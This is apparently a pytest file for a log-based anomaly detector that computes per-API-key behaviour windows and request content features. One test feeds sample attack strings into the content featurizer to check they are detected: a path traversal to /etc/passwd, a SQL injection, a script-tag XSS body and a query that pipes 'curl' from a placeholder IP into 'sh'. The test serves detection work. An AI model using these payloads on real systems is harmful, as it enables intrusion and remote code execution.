"""Entity behaviour windows and request content features."""

from __future__ import annotations

from typing import Any

import numpy as np
import pytest

from detectors.ml.features.behaviour import BehaviourConfig, BehaviourRows, EntityBehaviour, feature_names
from detectors.ml.features.columns import (
    FIELDS_READ,
    columns_from_docs,
    columns_from_docs_reference,
    epoch_minute,
    epoch_minutes,
)
from detectors.ml.features.content import FEATURES, RequestContent
from detectors.ml.features.content import FIELDS_READ as CONTENT_FIELDS
from ingest.ecs import EVENT_FIELDS

from .conftest import docs


def doc(minute: int, second: int = 0, *, key: str = "k1", ip: str = "198.51.100.1", status: int = 200,
        path: str = "/v1/models", ua: str = "sdk/1", bytes_out: int = 100, **extra: Any) -> dict[str, Any]:  # fmt: skip
    d: dict[str, Any] = {
        "@timestamp": f"2026-11-02T08:{minute:02d}:{second:02d}.000Z",
        "http": {"request": {"method": "GET"}, "response": {"status_code": status, "bytes": bytes_out}},
        "url": {"path": path},
        "logwarden": {"api": {"route": path, "key_id": key, "latency_ms": 10.0}},
        "source": {"ip": ip},
        "user": {"id": "u1"},
        "organization": {"id": "o1"},
        "user_agent": {"original": ua},
    }
    d.update(extra)
    return d


def rows_by(rows: list[BehaviourRows], etype: str) -> dict[tuple[str, int], np.ndarray]:
    return {(k, r.bucket): r.X[i] for r in rows if r.entity_type == etype for i, k in enumerate(r.keys)}


def test_features_read_only_catalogued_fields() -> None:
    assert set(FIELDS_READ) <= set(EVENT_FIELDS)
    assert set(CONTENT_FIELDS) <= set(EVENT_FIELDS)


def test_epoch_minute_accepts_iso_forms() -> None:
    assert epoch_minute("2026-11-02T08:00:00.000Z") == epoch_minute("2026-11-02T09:00:30+01:00")
    assert epoch_minute("2026-11-02T08:01:00Z") - epoch_minute("2026-11-02T08:00:59.999Z") == 1


def test_windows_count_errors_distinct_values_and_first_seen() -> None:
    eb = EntityBehaviour(BehaviourConfig(windows=(1, 5)))
    names = feature_names(eb.config)
    batch = [doc(0, s, ip=f"198.51.100.{s}", status=401 if s % 2 else 200) for s in range(10)]
    batch += [doc(1, 5), doc(3, 0)]  # minute 3 closes minute 1 (lateness 1 hop) and minute 0
    rows = eb.process(columns_from_docs(batch))
    key_rows = rows_by(rows, "api_key")
    assert set(key_rows) == {
        ("k1", epoch_minute(batch[0]["@timestamp"])),
        ("k1", epoch_minute(batch[10]["@timestamp"])),
    }
    first = key_rows["k1", epoch_minute(batch[0]["@timestamp"])]
    f = dict(zip(names, first, strict=True))
    assert np.expm1(f["requests_1m"]) == pytest.approx(10)
    assert f["error_ratio_1m"] == pytest.approx(0.5)
    assert np.expm1(f["status_401_1m"]) == pytest.approx(5)
    assert 7 <= np.expm1(f["ips_1m"]) <= 13  # linear counting, approximate
    assert f["new_entity"] == 1.0 and np.expm1(f["new_ips"]) >= 6
    second = dict(zip(names, key_rows["k1", epoch_minute(batch[10]["@timestamp"])], strict=True))
    assert np.expm1(second["requests_1m"]) == pytest.approx(1)
    assert np.expm1(second["requests_5m"]) == pytest.approx(11), "the 5-minute window holds both minutes"
    assert second["new_entity"] == 0.0 and second["new_ips"] == 0.0, "the IP was learned after the first row"


def test_late_events_are_counted_and_left_out() -> None:
    eb = EntityBehaviour(BehaviourConfig(windows=(1, 5)))
    eb.process(columns_from_docs([doc(0), doc(5)]))
    eb.process(columns_from_docs([doc(1)]))
    assert eb.late_events == 1


def test_flagged_rows_are_not_learned() -> None:
    def refuse(rows: BehaviourRows) -> np.ndarray:
        return np.zeros(len(rows.keys), dtype=bool)

    eb = EntityBehaviour(BehaviourConfig(windows=(1, 5)))
    eb.process(columns_from_docs([doc(0, ip="203.0.113.9"), doc(2)]), refuse)
    table = eb.tables["api_key"]
    row = table.index["k1"]
    assert table.n_obs[row] == 0 and table.seen[row].sum() == 0
    eb.process(columns_from_docs([doc(4)]))
    assert table.n_obs[row] == 1


def test_flush_closes_every_window_and_same_input_same_rows() -> None:
    data = docs(20)
    a, b = EntityBehaviour(), EntityBehaviour()
    rows_a = a.process(columns_from_docs(data)) + a.flush()
    rows_b = b.process(columns_from_docs(data[:3000])) + b.process(columns_from_docs(data[3000:])) + b.flush()
    exact = [i for i, n in enumerate(a.feature_names) if not n.startswith("latency_p95")]  # p95: max of batch p95s
    key = lambda rows: sorted((r.entity_type, r.bucket, k, tuple(np.round(r.X[i, exact], 5)))  # noqa: E731
                              for r in rows for i, k in enumerate(r.keys))  # fmt: skip
    assert key(rows_a) == key(rows_b), "batching does not change the rows (but the approximate latency p95)"
    assert sum(len(r.keys) for r in rows_a) > 1000
    assert all(np.isfinite(r.X).all() for r in rows_a)


def test_state_per_entity_stays_under_two_kilobytes() -> None:
    eb = EntityBehaviour()
    table = eb.tables["api_key"]
    assert table.bytes_per_entity() <= 1500  # arrays; the key string and index entry come on top (bench/bench_ml.py)


def test_eviction_forgets_idle_entities() -> None:
    eb = EntityBehaviour(BehaviourConfig(windows=(1, 5), idle_ttl_minutes=10))
    eb.process(columns_from_docs([doc(0, key="old"), doc(1, key="k1")]))
    eb.process(columns_from_docs([doc(m % 60, key="k1") for m in range(2, 30)]))
    assert "old" not in eb.tables["api_key"].index and "k1" in eb.tables["api_key"].index


def test_content_features_see_payloads() -> None:
    rc = RequestContent().fit(docs(10))
    normal = doc(0, path="/v1/files", extra=None)
    attacks = [
        doc(0, path="/v1/files/../../../../etc/passwd"),
        {**doc(0, path="/v1/files"), "url": {"path": "/v1/files", "query": "purpose=' OR '1'='1--"}},
        {**doc(0), "http": {"request": {"method": "POST", "body": {"content": '{"name":"<script>alert(1)</script>"}'}},
                           "response": {"status_code": 400}}},
        {**doc(0), "url": {"path": "/v1/files", "query": "q=$(curl -s http://203.0.113.9/x|sh)"}},
    ]  # fmt: skip
    X = rc.transform([normal, *attacks])
    f = {n: X[:, i] for i, n in enumerate(FEATURES)}
    assert f["seq_traversal"][1] > 0 and f["seq_system"][1] > 0
    assert f["seq_quotes"][2] > 0 and f["seq_sql"][2] > 0 and f["unknown_params"][2] == 0
    assert f["seq_script"][3] > 0 and f["seq_angle"][3] > 0 and f["body_length"][3] > 0
    assert f["seq_shell"][4] > 0 and f["unknown_params"][4] == 1
    assert (X[0, [FEATURES.index(n) for n in FEATURES if n.startswith("seq_")]] == 0).all()
    assert rc.transform([]).shape == (0, len(FEATURES))


def test_request_bodies_reach_the_ecs_document() -> None:
    data = docs(20, ("payload_attack",))
    with_body = [d for d in data if d["http"]["request"].get("body", {}).get("content")]
    assert with_body and all(d["labels"]["scenario"] == "payload_attack" for d in with_body)
    assert "http.request.body.content" in EVENT_FIELDS


def test_fast_columns_equal_the_reference_path() -> None:
    data = docs(20, ("key_leak", "exfiltration"))
    data[5] = {**data[5], "@timestamp": "2026-11-02T09:00:30+01:00"}  # another ISO form: parsed one by one
    fast, ref = columns_from_docs(data), columns_from_docs_reference(data)
    for name in ("minute", "status", "bytes_out", "input_tokens", "output_tokens", "latency_ms"):
        assert np.array_equal(getattr(fast, name), getattr(ref, name)), name
    for name in ("route", "path", "country", "asn", "user_agent"):
        assert getattr(fast, name).tolist() == getattr(ref, name).tolist(), name
    assert {k: v.tolist() for k, v in fast.entities.items()} == {k: v.tolist() for k, v in ref.entities.items()}
    stamps = ["2000-02-29T23:59:59.000Z", "1970-01-01T00:01:00.000Z", "2026-11-02T08:00Z", "2026-11-02T08:00:00.5Z"]
    assert epoch_minutes(stamps).tolist() == [epoch_minute(t) for t in stamps]


def test_vectorized_windows_equal_the_reference_path_across_batches() -> None:
    """The fast columns and one batch give the same rows as the reference columns in uneven batches."""
    data = docs(20, ("key_leak", "credential_stuffing"))
    fast, ref = EntityBehaviour(), EntityBehaviour()
    rows_fast = fast.process(columns_from_docs(data)) + fast.flush()
    rows_ref: list[BehaviourRows] = []
    for start, end in ((0, 777), (777, 2500), (2500, 2501), (2501, len(data))):
        rows_ref += ref.process(columns_from_docs_reference(data[start:end]))
    rows_ref += ref.flush()
    exact = [i for i, n in enumerate(fast.feature_names) if not n.startswith("latency_p95")]  # p95: max of batch p95s
    key = lambda rows: sorted((r.entity_type, r.bucket, k, tuple(np.round(r.X[i, exact], 5)))  # noqa: E731
                              for r in rows for i, k in enumerate(r.keys))  # fmt: skip
    assert key(rows_fast) == key(rows_ref)


def _reference_window_sums(
    data: list[dict[str, Any]], windows: tuple[int, ...]
) -> dict[tuple[str, str, int], list[float]]:
    """Per entity and minute, from plain per-event Python dicts: requests, errors, 401, 404, bytes out per window."""
    cols = columns_from_docs_reference(data)
    per_minute: dict[tuple[str, str, int], list[float]] = {}
    for i in range(len(data)):
        status = int(cols.status[i])
        add = [1.0, float(status >= 400), float(status == 401), float(status == 404), float(cols.bytes_out[i])]
        for etype, keys in cols.entities.items():
            if keys[i] is not None:
                acc = per_minute.setdefault((etype, keys[i], int(cols.minute[i])), [0.0] * 5)
                per_minute[etype, keys[i], int(cols.minute[i])] = [a + b for a, b in zip(acc, add, strict=True)]
    out = {}
    for etype, key, minute in per_minute:
        row: list[float] = []
        for w in windows:
            sums = [per_minute.get((etype, key, m), [0.0] * 5) for m in range(minute - w + 1, minute + 1)]
            row += [sum(s[j] for s in sums) for j in range(5)]
        out[etype, key, minute] = row
    return out


def test_vectorized_window_sums_equal_a_per_event_reference() -> None:
    data = docs(20, ("slow_scraping", "credential_stuffing"))
    eb = EntityBehaviour()
    rows: list[BehaviourRows] = []
    for start in range(0, len(data), 1234):  # batch boundaries inside minutes
        rows += eb.process(columns_from_docs(data[start : start + 1234]))
    rows += eb.flush()
    names = eb.feature_names
    picks = [f"{f}_{w}m" for w in eb.config.windows for f in ("requests", "error_ratio", "status_401", "status_404",
                                                                "bytes_out")]  # fmt: skip
    index = [names.index(p) for p in picks]
    reference = _reference_window_sums(data, eb.config.windows)
    seen = 0
    for r in rows:
        for i, key in enumerate(r.keys):
            got = r.X[i, index]
            want = reference[r.entity_type, key, r.bucket]
            for w in range(len(eb.config.windows)):
                n, errors, s401, s404, bytes_out = want[5 * w : 5 * w + 5]
                expected = [np.log1p(n), errors / max(n, 1.0), np.log1p(s401), np.log1p(s404), np.log1p(bytes_out)]
                np.testing.assert_allclose(got[5 * w : 5 * w + 5], expected, rtol=1e-5, atol=1e-6)
            seen += 1
    assert seen == len(reference), "one row per entity and active minute"


def test_eviction_keeps_the_context_links_of_open_hops() -> None:
    """Evicting idle entities moves rows; the links of open hops must follow (they pointed at stale rows)."""

    def run(ttl: int) -> dict[tuple[str, int], np.ndarray]:
        eb = EntityBehaviour(BehaviourConfig(windows=(1, 5), idle_ttl_minutes=ttl))
        batch = [doc(0, key="idle", ip="198.51.100.7"), doc(0, key="idle2", ip="198.51.100.8")]
        batch += [doc(m, s, key="k1", ip=f"203.0.113.{s}") for m in range(1, 12) for s in range(3)]
        rows: list[BehaviourRows] = []
        for m in range(12):
            rows += eb.process(columns_from_docs([d for d in batch if d["@timestamp"][14:16] == f"{m:02d}"]))
        return rows_by(rows + eb.flush(), "user")

    names = feature_names(BehaviourConfig(windows=(1, 5)))
    evicted, kept = run(3), run(10_000)
    assert evicted.keys() == kept.keys()
    for key in kept:
        assert evicted[key][names.index("key_ips")] == kept[key][names.index("key_ips")], key
